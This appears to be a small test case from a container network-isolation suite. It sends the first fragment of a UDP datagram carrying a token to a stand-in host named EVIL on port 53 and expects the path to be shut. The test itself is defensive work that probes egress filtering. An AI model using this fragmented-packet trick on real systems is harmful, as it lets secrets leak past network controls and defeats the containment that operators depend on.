"""
how: the first half of a datagram
expect: shut
unseen: Docker's connection tracking waits for the other half
"""

from frames import by, gateway, ipv4, udp_part
from land import EVIL


def attempt(token):
    return by(gateway(), ipv4(EVIL, 17, udp_part(EVIL, 53, token), fragment=0x2000))
